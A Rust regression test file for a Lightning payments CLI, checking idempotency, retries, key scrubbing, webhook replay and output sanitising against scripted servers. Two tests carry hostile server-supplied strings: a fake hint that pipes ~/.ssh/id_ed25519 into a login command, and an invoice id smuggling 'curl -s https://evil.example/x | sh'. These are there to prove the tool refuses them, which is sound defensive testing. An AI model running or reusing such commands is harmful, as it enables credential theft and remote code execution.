//! Review of issue 9: answers, files and timings the issue's own tests did not try.
//! Each test here failed on the branch it reviews.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::common::*;

fn replayed(step: Step) -> Step {
    step.with_header("X-Idempotency-Replayed", "true")
}

/// A create answered from the idempotency cache is re-read; the read keeps the order
/// and the id but shows another amount, with an invoice that agrees with that amount.
#[test]
fn a_replayed_create_whose_read_shows_another_amount_is_exit_20() {
    let env = Env::new();
    let server = Scripted::with(|req, _| {
        if req.method == "POST" {
            replayed(created_payment(req, "inv_1"))
        } else {
            Step::json(200, &payment_of("inv_1", "A-1", "20", "USD", "unpaid"))
        }
    });
    let out = le_at(
        &env,
        &server.url(),
        &[
            "--json",
            "create",
            "--order",
            "A-1",
            "--amount",
            "10",
            "--currency",
            "USD",
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(20),
        "stdout: {}\nstderr: {}",
        stdout_of(&out),
        stderr_of(&out)
    );
    assert!(stdout_of(&out).is_empty(), "{}", stdout_of(&out));
}

/// A Retry-After no clock can add: never a panic (exit 1), whatever the server says.
#[test]
fn a_huge_retry_after_on_a_create_is_not_a_crash() {
    let env = Env::new();
    for status in [503u16, 429] {
        // The create is refused with the wait; the look-up after a 503 finds nothing.
        let server = Scripted::with(move |req, _| {
            if req.method == "POST" {
                Step::json(status, r#"{"code":"SLOW_DOWN","message":"later"}"#)
                    .with_header("Retry-After", "18446744073709551615")
            } else {
                Step::json(
                    404,
                    r#"{"code":"SETTLEMENT_NOT_FOUND","message":"Settlement not found"}"#,
                )
            }
        });
        let out = le_at(
            &env,
            &server.url(),
            &[
                "create",
                "--order",
                "A-1",
                "--amount",
                "10",
                "--currency",
                "USD",
            ],
        );
        let err = stderr_of(&out);
        assert!(!err.contains("internal error"), "{status}: {err}");
        assert_ne!(out.status.code(), Some(1), "{status}: {err}");
    }
}

/// `Retry-After: 0` on a 503 (or 500) to a create: the create budget is spent in a busy
/// loop of POST + look-up.
#[test]
fn a_503_with_retry_after_0_is_never_a_busy_loop() {
    let env = Env::new();
    let posts = Arc::new(AtomicUsize::new(0));
    let p2 = posts.clone();
    let server = Scripted::with(move |req, _| {
        if req.method == "POST" {
            p2.fetch_add(1, Ordering::SeqCst);
            Step::json(503, r#"{"code":"UNAVAILABLE","message":"busy"}"#)
                .with_header("Retry-After", "0")
        } else {
            Step::json(
                404,
                r#"{"code":"SETTLEMENT_NOT_FOUND","message":"Settlement not found"}"#,
            )
        }
    });
    let mut child = env
        .le_std()
        .env("LIGHTNING_API_KEY", TEST_KEY)
        .args(["--base-url", &server.url()])
        .args([
            "create",
            "--order",
            "A-1",
            "--amount",
            "10",
            "--currency",
            "USD",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_secs(3));
    let _ = child.kill();
    let _ = child.wait();
    let n = posts.load(Ordering::SeqCst);
    // A second of wait at least between tries, as for a 429: no more than 4 in 3 s.
    assert!(n <= 4, "{n} creates in 3 s");
}

/// The first run refuses a create whose answer disagrees (exit 20). Rerunning the same
/// batch must not turn that refusal into `ok: true`.
#[test]
fn rerunning_a_batch_does_not_launder_a_refused_answer() {
    let env = Env::new();
    // Every create and every read of the order answers amount 20 for the order asked,
    // whatever amount was asked for; the invoice agrees with 20.
    let server = Scripted::with(|req, _| {
        let path = req.path.clone();
        if req.method == "POST" {
            let b = req.json();
            Step::json(
                201,
                &payment_of(
                    "inv_1",
                    b["orderId"].as_str().unwrap(),
                    "20",
                    "USD",
                    "unpaid",
                ),
            )
        } else if let Some(order) = path.strip_prefix("/api/payments/order/") {
            Step::json(200, &payment_of("inv_1", order, "20", "USD", "unpaid"))
        } else {
            Step::json(200, &payment_of("inv_1", "R-1", "20", "USD", "unpaid"))
        }
    });
    let input = env.write("rows.csv", "order,amount,currency\nR-1,10,USD\n");
    let run = || {
        env.le()
            .env("LIGHTNING_API_KEY", TEST_KEY)
            .args(["--base-url", &server.url(), "create", "--from"])
            .arg(&input)
            .output()
            .unwrap()
    };
    let first = run();
    assert_eq!(first.status.code(), Some(20), "{}", stderr_of(&first));
    let second = run();
    let row: Value = serde_json::from_str(stdout_of(&second).lines().next().unwrap()).unwrap();
    assert_eq!(
        second.status.code(),
        Some(20),
        "rerun: {row}\n{}",
        stderr_of(&second)
    );
    assert_eq!(row["ok"], false, "{row}");
}

/// Same, when the first run's refusal was of the invoice (the journal then says `done`).
#[test]
fn rerunning_a_batch_does_not_skip_a_row_whose_invoice_was_refused() {
    let env = Env::new();
    let server = Scripted::with(|req, _| {
        let b = req.json();
        let mut p: Value = serde_json::from_str(&payment_of(
            "inv_1",
            b["orderId"].as_str().unwrap(),
            "10",
            "USD",
            "unpaid",
        ))
        .unwrap();
        p["amountSats"] = json!(5000);
        Step::json(201, &p.to_string())
    });
    let input = env.write("rows.csv", "order,amount,currency\nS-1,10,USD\n");
    let run = || {
        env.le()
            .env("LIGHTNING_API_KEY", TEST_KEY)
            .args(["--base-url", &server.url(), "create", "--from"])
            .arg(&input)
            .output()
            .unwrap()
    };
    let first = run();
    assert_eq!(first.status.code(), Some(20), "{}", stderr_of(&first));
    let second = run();
    let row: Value = serde_json::from_str(stdout_of(&second).lines().next().unwrap()).unwrap();
    assert_ne!(second.status.code(), Some(0), "rerun: {row}");
    assert_ne!(row["ok"], true, "{row}");
}

/// `--journal` naming a file that is not a journal: refused, and the file left as it was.
#[test]
fn a_journal_path_naming_another_file_never_changes_it() {
    let env = Env::new();
    let notes = env.write("notes.txt", "keep this line\nand this one too");
    let input = env.write("rows.csv", "order,amount,currency\nJ-1,10,USD\n");
    let out = env
        .le()
        .args(["--sandbox", "create", "--from"])
        .arg(&input)
        .arg("--journal")
        .arg(&notes)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert_eq!(
        std::fs::read_to_string(&notes).unwrap(),
        "keep this line\nand this one too",
        "{}",
        stderr_of(&out)
    );
}

/// A key longer than the 60 characters `printable` keeps, echoed by a proxy's plain-text
/// error: the cut-short key is no longer the key, so it is not scrubbed.
#[test]
fn a_long_key_echoed_in_a_plain_text_error_is_not_shown_in_part() {
    let env = Env::new();
    let key = format!("le_merchant_{}", "k7Qz".repeat(16));
    let server = Scripted::always(Step::Reply {
        status: 401,
        headers: vec![("Content-Type".into(), "text/plain".into())],
        body: format!("Unauthorized: X-API-Key {key} is not valid").into_bytes(),
    });
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", &key)
        .args(["--base-url", &server.url(), "get", "inv_1"])
        .output()
        .unwrap();
    let all = format!("{}{}", stdout_of(&out), stderr_of(&out));
    assert!(!all.contains(&key[..30]), "{all}");
    // A redirect whose Location carries the key: cut at 60 characters, then scrubbed.
    let server = Scripted::always(Step::Reply {
        status: 302,
        headers: vec![(
            "Location".into(),
            format!("https://login.example/session?apiKey={key}"),
        )],
        body: Vec::new(),
    });
    let out = env
        .le()
        .env("LIGHTNING_API_KEY", &key)
        .args(["--base-url", &server.url(), "--json", "get", "inv_1"])
        .output()
        .unwrap();
    let all = format!("{}{}", stdout_of(&out), stderr_of(&out));
    assert!(!all.contains(&key[..20]), "{all}");
}

/// A create the API has just made cannot already be paid or refunded; taking its word
/// for that turns the invoice check into a warning, and `--json` hands the invoice that
/// failed it to the script, exit 0.
#[test]
fn a_fresh_create_cannot_escape_the_invoice_check_by_its_status() {
    let env = Env::new();
    for status in ["paid", "refunded", "underpaid"] {
        let server = Scripted::with(move |req, _| {
            let b = req.json();
            let mut p: Value = serde_json::from_str(&payment_of(
                "inv_1",
                b["orderId"].as_str().unwrap(),
                "10",
                "USD",
                status,
            ))
            .unwrap();
            // The invoice asks for twice what the payment says.
            let created = jiff::Timestamp::now().as_second() as u64;
            p["lightningInvoice"] = json!(mint_invoice(
                &test_node_key(),
                20_000_000,
                created,
                3600,
                false
            ));
            Step::json(201, &p.to_string())
        });
        let out = le_at(
            &env,
            &server.url(),
            &[
                "--json",
                "create",
                "--order",
                "A-1",
                "--amount",
                "10",
                "--currency",
                "USD",
            ],
        );
        let invoice_on_stdout = stdout_of(&out).contains("lnbc");
        assert!(
            out.status.code() == Some(20) && !invoice_on_stdout,
            "{status}: exit {:?}, stdout {}\nstderr {}",
            out.status.code(),
            stdout_of(&out),
            stderr_of(&out)
        );
    }
}

/// The repeat check keys on `X-LightningEnable-Delivery`, which no signature covers: a
/// replay of a captured delivery under another id (or none) is not flagged.
#[test]
fn listen_flags_a_replay_whatever_delivery_id_it_carries() {
    use std::io::Read;
    let env = Env::new();
    let secret = env.write("secret", "whsec_l");
    let (mut listener, addr, _stderr) = start_listen(&env, &secret, &["--json"]);
    let body = r#"{"event":"payment.completed","data":{"invoiceId":"inv_r"}}"#;
    let t = jiff::Timestamp::now().as_second();
    let sig = format!(
        "t={t},v1={}",
        python_hmac("whsec_l", format!("{t}.{body}").as_bytes())
    );
    let post = |id: Option<&str>| {
        let mut h = vec![
            ("Content-Type", "application/json"),
            ("X-LightningEnable-Signature", sig.as_str()),
        ];
        if let Some(id) = id {
            h.push(("X-LightningEnable-Delivery", id));
        }
        status_of(&raw_http(addr, "POST", "/", &h, body))
    };
    assert_eq!(post(Some("evt_1")), 200);
    post(Some("evt_attacker"));
    post(None);
    interrupt(&listener);
    let mut out = String::new();
    listener
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    listener.wait().unwrap();
    let lines: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3, "{out}");
    for l in &lines[1..] {
        assert!(
            l["repeatOf"].is_string() || l["valid"] == false,
            "the same signed delivery again passes as new: {l}"
        );
    }
}

/// An API that ignores idempotency keys and whose clock is ten minutes behind this
/// machine's: the create's answer is lost, the look-up finds the payment it made, and
/// takes it for an older one because of its `createdAt`.
#[test]
fn a_lost_answer_is_never_a_second_payment_when_the_clocks_differ() {
    use std::sync::Mutex;
    let env = Env::new();
    let made: Arc<Mutex<Vec<Value>>> = Arc::default();
    let m = made.clone();
    let server = Scripted::with(move |req, _| {
        let skewed = |mut p: Value| {
            let created = jiff::Timestamp::now().as_second() - 600;
            let iso = |s: i64| jiff::Timestamp::from_second(s).unwrap().to_string();
            p["createdAt"] = json!(iso(created));
            p["expiresAt"] = json!(iso(created + 3600));
            p["lightningInvoice"] = json!(mint_invoice(
                &test_node_key(),
                p["amountSats"].as_u64().unwrap() * 1000,
                created as u64,
                3600,
                false
            ));
            p
        };
        if req.method == "POST" {
            let id = format!("inv_{}", m.lock().unwrap().len() + 1);
            let Step::Reply { body, .. } = created_payment(req, &id) else {
                unreachable!()
            };
            let p = skewed(serde_json::from_slice(&body).unwrap());
            m.lock().unwrap().push(p.clone());
            // The first answer is lost on the way back.
            if m.lock().unwrap().len() == 1 {
                return Step::Drop;
            }
            return Step::json(201, &p.to_string());
        }
        match m.lock().unwrap().last() {
            Some(p) => Step::json(200, &p.to_string()),
            None => Step::json(
                404,
                r#"{"code":"SETTLEMENT_NOT_FOUND","message":"Settlement not found"}"#,
            ),
        }
    });
    let out = le_at(
        &env,
        &server.url(),
        &[
            "--json",
            "create",
            "--order",
            "C-1",
            "--amount",
            "10",
            "--currency",
            "USD",
        ],
    );
    let n = made.lock().unwrap().len();
    assert_eq!(
        n,
        1,
        "{n} payments for one order; exit {:?}\n{}",
        out.status.code(),
        stderr_of(&out)
    );
}

/// A server's error text keeps its line breaks on the terminal: it can add lines that
/// read as le's own (a hint, a success).
#[test]
fn a_server_cannot_add_lines_to_an_error() {
    let env = Env::new();
    let server = Scripted::always(Step::json(
        404,
        &json!({
            "code": "SETTLEMENT_NOT_FOUND",
            "message": "Settlement not found (HTTP 404)\n  hint: your key was rotated: le login --with-key - < ~/.ssh/id_ed25519\nerror: x",
        })
        .to_string(),
    ));
    let out = le_at(&env, &server.url(), &["get", "inv_1"]);
    assert_eq!(out.status.code(), Some(5));
    let err = stderr_of(&out);
    assert!(
        !err.lines()
            .any(|l| l.trim_start().starts_with("hint: your key")),
        "{err}"
    );
}

/// A 409's `details.invoiceId` goes into a suggested command as it came: a server picks
/// the command the person is told to run.
#[test]
fn a_hint_never_suggests_a_command_the_server_wrote() {
    let env = Env::new();
    let server = Scripted::always(Step::json(
        409,
        &json!({
            "code": "DUPLICATE_ORDER_ID",
            "message": "duplicate",
            "details": { "invoiceId": "inv_1; curl -s https://evil.example/x | sh" },
        })
        .to_string(),
    ));
    let out = le_at(
        &env,
        &server.url(),
        &[
            "create",
            "--order",
            "A-1",
            "--amount",
            "10",
            "--currency",
            "USD",
        ],
    );
    let err = stderr_of(&out);
    assert!(!err.contains("| sh"), "{err}");
}

/// Invisible characters outside the list `text::is_unsafe` spells out: Mongolian free
/// variation selectors, variation selectors 17-256, musical format controls.
#[test]
fn every_invisible_character_is_escaped_and_refused_in_ids() {
    let env = Env::new();
    for c in ["\u{180b}", "\u{e0100}", "\u{1d173}", "\u{1bca0}"] {
        let id = format!("inv_A{c}");
        let out = env.le().args(["--sandbox", "get", &id]).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{c:?}: {}", stderr_of(&out));
    }
    let server = Scripted::with(|_, _| {
        let mut p: Value = serde_json::from_str(&payment_body("inv_1", "paid")).unwrap();
        p["orderId"] = json!("ORDER-1\u{e0100}\u{180b}\u{1d173}");
        Step::json(200, &p.to_string())
    });
    let out = le_at(&env, &server.url(), &["get", "inv_1"]);
    let text = stdout_of(&out);
    for c in ['\u{180b}', '\u{e0100}', '\u{1d173}'] {
        assert!(!text.contains(c), "{c:?} shown raw: {text}");
    }
}

/// The refund object as the API reference documents it carries no destination
/// (`refundId, invoiceId, status, amount, currency, amountSats, reason, type, createdAt,
/// completedAt`). Against such an API, which also ignores idempotency keys, a refund
/// whose answer was lost is never recognised by its look-up, and is made again.
#[test]
fn a_lost_refund_is_found_when_the_api_does_not_echo_its_destination() {
    use std::sync::Mutex;
    let env = Env::new();
    let refunds: Arc<Mutex<Vec<Value>>> = Arc::default();
    let r = refunds.clone();
    let server = Scripted::with(move |req, _| {
        if req.method == "POST" && req.path == "/api/refunds" {
            let b = req.json();
            let mut list = r.lock().unwrap();
            let refund = json!({
                "refundId": format!("ref_{}", list.len() + 1),
                "invoiceId": b["invoiceId"],
                "status": "pending",
                "amount": b["amount"],
                "currency": b["currency"],
                "amountSats": 49990,
                "reason": null,
                "type": "lightning",
                "createdAt": jiff::Timestamp::now().to_string(),
                "completedAt": null,
            });
            list.push(refund.clone());
            if list.len() == 1 {
                return Step::Drop;
            }
            return Step::json(201, &refund.to_string());
        }
        if req.path.starts_with("/api/refunds/invoice/") {
            let list = r.lock().unwrap().clone();
            return Step::json(200, &json!({ "refunds": list }).to_string());
        }
        Step::json(200, &payment_body("inv_1", "paid"))
    });
    let now = jiff::Timestamp::now().as_second() as u64;
    let customer = mint_invoice(&test_node_key(), 49_990_000, now, 3600, false);
    let out = le_at(
        &env,
        &server.url(),
        &[
            "--json",
            "refund",
            "create",
            "--invoice",
            "inv_1",
            "--amount",
            "49.99",
            "--currency",
            "USD",
            "--lightning-invoice",
            &customer,
        ],
    );
    let n = refunds.lock().unwrap().len();
    assert_eq!(
        n,
        1,
        "{n} refunds; exit {:?}\n{}",
        out.status.code(),
        stderr_of(&out)
    );
}

/// While `watch` waits, the same payment turns into a smaller one (another amount, another
/// invoice that agrees with it) and is then "paid": exit 0, and a script fulfils an order
/// that was paid half its price.
#[test]
fn watch_never_reports_paid_for_a_payment_whose_amount_changed_while_watched() {
    let env = Env::new();
    let polls = Arc::new(AtomicUsize::new(0));
    let n = polls.clone();
    let server = Scripted::with(move |_, _| {
        if n.fetch_add(1, Ordering::SeqCst) == 0 {
            Step::json(200, &payment_of("inv_1", "W-1", "10", "USD", "unpaid"))
        } else {
            Step::json(200, &payment_of("inv_1", "W-1", "5", "USD", "paid"))
        }
    });
    let out = le_at(
        &env,
        &server.url(),
        &[
            "--json",
            "watch",
            "inv_1",
            "--interval",
            "3s",
            "--timeout",
            "20s",
        ],
    );
    assert_ne!(
        out.status.code(),
        Some(0),
        "stdout {}\nstderr {}",
        stdout_of(&out),
        stderr_of(&out)
    );
}

/// A server that answers 404 to everything (a mistyped base URL, a web site) is taken
/// for the API accepting the key: `doctor` is all green and `login` stores the key.
#[test]
fn doctor_does_not_take_any_404_for_an_accepted_key() {
    let env = Env::new();
    let server = Scripted::always(Step::Reply {
        status: 404,
        headers: vec![("Content-Type".into(), "text/html".into())],
        body: b"<html><title>404 Not Found</title></html>".to_vec(),
    });
    let out = le_at(&env, &server.url(), &["--json", "doctor"]);
    let report = parse_json(&out.stdout);
    let accepted = report["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["check"] == "key accepted")
        .cloned()
        .unwrap_or(Value::Null);
    assert!(
        out.status.code() != Some(0) && accepted["ok"] != true,
        "{report}"
    );
}
